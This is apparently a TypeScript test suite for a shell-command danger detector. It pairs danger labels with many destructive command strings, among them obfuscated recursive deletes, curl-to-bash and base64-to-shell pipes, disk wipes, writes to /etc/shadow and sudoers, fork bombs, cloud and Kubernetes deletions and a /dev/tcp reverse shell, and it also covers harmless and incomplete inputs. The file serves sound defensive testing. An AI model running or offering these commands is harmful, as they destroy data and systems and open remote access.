import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { readArgv, readProgramText, readShell } from "./shell.ts";

/** Put together, so that this file holds no line that a shell could run. */
const REMOVE = ["rm", "-rf"].join(" ");

const DANGEROUS: readonly (readonly [string, string])[] = [
  ["rm_recursive_force", `${REMOVE} /`],
  ["rm_recursive_force", String.raw`r\m -r -f x`],
  ["rm_recursive_force", '"rm" --recursive --force x'],
  ["rm_recursive_force", "rm --rec --forc x"],
  ["rm_recursive_force", "'r'm -fr x"],
  ["rm_recursive_force", "rm x -r y -f"],
  ["rm_recursive_force", String.raw`$'\x72m' -rf x`],
  ["rm_recursive_force", "x=rm; $x -rf /"],
  ["rm_recursive_force", `a="${REMOVE}"; $a /`],
  ["rm_recursive_force", "a=r; b=m; ${a}${b} -rf /"],
  ["rm_recursive_force", "rm${IFS}-rf${IFS}/"],
  ["rm_recursive_force", "{rm,-rf,/}"],
  ["rm_recursive_force", "/bin/rm -Rf x"],
  ["rm_recursive_force", `sudo -u root ${REMOVE} /`],
  ["rm_recursive_force", `env FOO=1 ${REMOVE} x`],
  ["rm_recursive_force", `env -S "${REMOVE} x"`],
  ["rm_recursive_force", `nohup ${REMOVE} x &`],
  ["rm_recursive_force", `busybox ${REMOVE} x`],
  ["rm_recursive_force", `command ${REMOVE} x`],
  ["rm_recursive_force", `exec ${REMOVE} x`],
  ["rm_recursive_force", `eval "${REMOVE} x"`],
  ["rm_recursive_force", `sh -c '${REMOVE} x'`],
  ["rm_recursive_force", `bash -lc "cd /tmp && ${REMOVE} x"`],
  ["rm_recursive_force", `sudo sh -c "bash -c '${REMOVE} x'"`],
  ["rm_recursive_force", `timeout 5 nice -n 3 ${REMOVE} x`],
  ["rm_recursive_force", `true && ${REMOVE} x`],
  ["rm_recursive_force", `if true; then ${REMOVE} x; fi`],
  ["rm_recursive_force", `for i in a b; do ${REMOVE} $i; done`],
  ["rm_recursive_force", `f() { ${REMOVE} x; }; f`],
  ["rm_recursive_force", `ls; (cd x; ${REMOVE} y)`],
  ["rm_recursive_force", `echo $(${REMOVE} x)`],
  ["rm_recursive_force", `echo "\`${REMOVE} x\`"`],
  ["rm_recursive_force", `cat <(${REMOVE} x)`],
  ["rm_recursive_force", `echo \${x:-$(${REMOVE} y)}`],
  ["rm_recursive_force", "$(echo rm) -rf /"],
  ["rm_recursive_force", `echo "${REMOVE} /" | sh`],
  ["rm_recursive_force", `bash <<< "${REMOVE} /"`],
  ["rm_recursive_force", ["cat <<END | bash", `${REMOVE} /`, "END"].join("\n")],
  ["rm_recursive_force", ["bash <<-'END'", `\t${REMOVE} /`, "\tEND"].join("\n")],
  ["rm_recursive_force", `ssh -p 22 host "${REMOVE} /"`],
  ["rm_recursive_force", `su - root -c "${REMOVE} /"`],
  ["rm_recursive_force", `trap '${REMOVE} /' EXIT`],
  ["rm_recursive_force", `alias ls='${REMOVE} /'`],
  ["rm_recursive_force", `kubectl exec pod -- ${REMOVE} /data`],
  ["rm_recursive_force", `docker exec -it db bash -c "${REMOVE} /data"`],
  ["rm_recursive_force", `awk 'BEGIN{system("${REMOVE} /")}'`],
  ["rm_recursive_force", `git -c alias.x='!${REMOVE} /' x`],
  ["rm_recursive_force", `python3 -c 'import os; os.system("${REMOVE} /")'`],
  ["rm_recursive_force", `python -c 'import subprocess; subprocess.run(["rm","-rf","/"])'`],
  ["rm_recursive_force", `perl -e 'system("rm " . "-rf /")'`],
  ["rm_recursive_force", `node -e 'require("child_process").execSync("${REMOVE} /")'`],
  ["rm_recursive_force", ["rm -rf\\", " x"].join("\n")],
  ["rm_recursive_force", ["rm \\", "  -r \\", "  -f x"].join("\n")],
  ["rm_recursive_force", "Remove-Item -Recurse -Force x"],
  ["rm_recursive_force", `find . -exec sh -c '${REMOVE} "$1"' _ {} \\;`],
  ["rm_protected", "rm -r ~"],
  ["rm_protected", "rm -r $HOME"],
  ["rm_protected", "rm -r /*"],
  ["xargs_rm", "find . -name x | xargs rm"],
  ["find_delete", "find / -name '*.log' -delete"],
  ["find_exec_rm", String.raw`find . -exec rm {} \;`],
  ["decode_pipe_shell", "echo bHM= | base64 -d | sh"],
  ["decode_pipe_shell", "openssl enc -d -in x | bash"],
  ["curl_pipe_shell", "curl -s https://host.example | bash"],
  ["curl_pipe_shell", "curl https://host.example | sudo bash -s -- --yes"],
  ["curl_pipe_shell", "bash <(curl -s https://host.example)"],
  ["curl_pipe_shell", 'bash -c "$(curl -fsSL https://host.example)"'],
  ["curl_pipe_shell", 'eval "$(wget -qO- https://host.example)"'],
  ["curl_pipe_shell", "curl -s https://host.example | tee x | python3"],
  ["script_delete_tree", `python -c "import shutil; shutil.rmtree('/')"`],
  ["write_to_device", "echo x > /dev/sda"],
  ["write_to_device", "cat x | tee /dev/nvme0n1"],
  ["dd_to_device", "dd if=/dev/zero of=/dev/sda bs=1M"],
  ["mkfs", "mkfs.ext4 /dev/sda1"],
  ["write_system_file", 'echo "x" > /etc/passwd'],
  ["write_system_file", "cat x >>/etc/sudoers"],
  ["write_system_file", "echo x | sudo tee -a /etc/shadow"],
  ["chmod_world_writable", "chmod -R 777 /"],
  ["chmod_protected", "chmod -R u-x /"],
  ["chown_protected", "chown -R nobody /etc"],
  ["fork_bomb", [":()", "{ :|:& };:"].join("")],
  ["fork_bomb", ["bomb()", " { bomb | bomb & }; bomb"].join("")],
  ["kubectl_delete", "kubectl delete ns prod"],
  ["kubectl_delete", "kubectl -n prod delete pod x"],
  ["terraform_destroy", "terraform destroy -auto-approve"],
  ["terraform_destroy", "terraform -chdir=x apply -destroy"],
  ["helm_uninstall", "helm uninstall x"],
  ["drop_database", "dropdb prod"],
  ["cloud_delete", "aws s3 rb s3://b --force"],
  ["cloud_delete", "aws ec2 terminate-instances --instance-ids i-1"],
  ["cloud_delete", "gcloud projects delete p"],
  ["container_delete", "docker system prune -af"],
  ["shutdown", "sudo shutdown -h now"],
  ["mv_to_null", "mv x /dev/null"],
  ["reverse_shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"],
];

const HARMLESS: readonly string[] = [
  "ls -la",
  "git push --force origin main",
  "git reset --hard",
  "rm file.txt",
  "rm -f a.txt",
  "rm -r build",
  "npm run build && npm test",
  "cat README.md | head -20",
  "grep -rf patterns.txt .",
  `echo '${REMOVE} /'`,
  "echo hello > out.txt",
  "find . -name '*.ts'",
  "docker ps",
  "kubectl get pods",
  "terraform plan",
  "python3 -c 'print(1)'",
  "curl -s https://host.example/x | jq .",
  "psql -c 'select 1'",
  "chmod +x run.sh",
  "sed -i 's/a/b/' x.ts",
  `git commit -m "remove ${REMOVE} from the script"`,
  ["cat > x.sh <<'END'", `${REMOVE} dist`, "END"].join("\n"),
  "for f in *.ts; do echo $f; done",
  "tar xzf a.tgz",
  "x=$(date); echo $x",
  "[[ -f a ]] && echo y",
  "node script.js --delete",
  "awk '{print $1}' f",
  "echo a 2>&1 >/dev/null",
  "aws s3 ls",
  "docker run --rm -it node:20 npm test",
  "diff <(sort x) <(sort y)",
  'cd "$DIR" && make',
  `# ${REMOVE} /`,
  "",
];

const INCOMPLETE: readonly string[] = [
  "$CMD -rf /",
  "$(get-command) x",
  "rm $FLAGS /",
  "/bin/r? -rf x",
  'bash -c "$SCRIPT"',
  'eval "$X"',
  "cat script | sh",
  "echo 'unterminated",
  "ls $(unterminated",
  "find . | xargs chmod",
  "python3 -c 'import base64; exec(base64.b64decode(x))'",
];

describe("a shell command", () => {
  it.each(DANGEROUS)("is known as %s: %s", (danger, command) => {
    expect(readShell(command).facts.dangers).toContain(danger);
  });

  it.each(HARMLESS)("is harmless and read to its end: %s", (command) => {
    expect(readShell(command).facts).toMatchObject({ dangers: [], incomplete: false });
  });

  it.each(INCOMPLETE)("is incomplete where a part is known only when it runs: %s", (command) => {
    expect(readShell(command).facts.incomplete).toBe(true);
  });

  it("names the programs that run, in pipes, lists, substitutions and wrappers", () => {
    expect(
      readShell("sudo env A=1 nice -n 5 make -j4 | tee log; x=$(git rev-parse HEAD) && /usr/bin/jq .").facts
        .programs,
    ).toEqual(["env", "git", "jq", "make", "nice", "sudo", "tee"]);
  });

  it.each([
    ["psql -c 'DROP DATABASE prod'", "DROP DATABASE prod"],
    [["psql db <<END", "DELETE FROM users;", "END"].join("\n"), "DELETE FROM users;\n"],
    ["echo 'DROP TABLE x' | psql db", "DROP TABLE x"],
    ['mysql -e"drop database x"', "drop database x"],
    ["mysql -uroot db -e 'drop table a'", "drop table a"],
    ["sqlite3 a.db 'DELETE FROM x'", "DELETE FROM x"],
    ["PGPASSWORD=x psql -h h --command='drop table a'", "drop table a"],
    ["docker exec -it pg psql -U postgres -c 'DROP TABLE x'", "DROP TABLE x"],
    ["psql <<< 'TRUNCATE x'", "TRUNCATE x"],
    ["bash -c \"psql -Atc 'TRUNCATE x'\"", "TRUNCATE x"],
  ])("gives the SQL that it would run: %s", (command, statement) => {
    expect(readShell(command).statements).toContain(statement);
  });

  it("is read as words where it comes as words", () => {
    expect(readArgv(["bash", "-lc", `${REMOVE} /tmp/x`]).facts.dangers).toContain("rm_recursive_force");
    expect(readArgv(["rm", "-r", "-f", "a b"]).facts.dangers).toContain("rm_recursive_force");
    expect(readArgv(["echo", `${REMOVE} /`]).facts.dangers).toEqual([]);
  });

  it("is found in a program's text", () => {
    expect(readProgramText(`import os\nos.system("${REMOVE} " + path)`).facts.dangers).toContain(
      "rm_recursive_force",
    );
    expect(readProgramText(`print("${REMOVE} /")`).facts.dangers).toEqual([]);
  });

  it("is cut off where it is nested too deeply or too long", () => {
    let nested = "ls";
    for (let i = 0; i < 40; i += 1) nested = `echo $(${nested})`;
    expect(readShell(nested).facts.incomplete).toBe(true);
    expect(readShell("ls;".repeat(30_000)).facts.incomplete).toBe(true);
    expect(readShell("{a,b}".repeat(2000)).facts.dangers).toEqual([]);
  });

  it("is read without throwing, whatever it is", () => {
    const pieces = [
      "rm",
      " ",
      "-rf",
      "'",
      '"',
      "`",
      "$(",
      ")",
      "${",
      "}",
      "{",
      ",",
      "|",
      "&",
      ";",
      "\n",
      "<<E",
      "E",
      "<(",
      ">",
      "\\",
      "$'",
      "x=",
      "$x",
      "#",
      "((",
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 40, size: "max" }), (parts) => {
        readShell(parts.join(""));
      }),
      { numRuns: 2000 },
    );
  });

  it("stays dangerous under any quoting of its letters", () => {
    const quoted = (word: string): fc.Arbitrary<string> =>
      fc
        .tuple(
          ...word
            .split("")
            .map((letter) =>
              fc.constantFrom(
                letter,
                `\\${letter}`,
                `'${letter}'`,
                `"${letter}"`,
                `$'${letter}'`,
                `${letter}''`,
              ),
            ),
        )
        .map((letters) => letters.join(""));
    fc.assert(
      fc.property(
        quoted("rm"),
        quoted("-rf"),
        fc.constantFrom(" ", "  ", "\t", " \\\n "),
        (program, flags, space) => {
          expect(readShell(`${program}${space}${flags}${space}x`).facts.dangers).toContain(
            "rm_recursive_force",
          );
        },
      ),
      { numRuns: 500 },
    );
  });
});
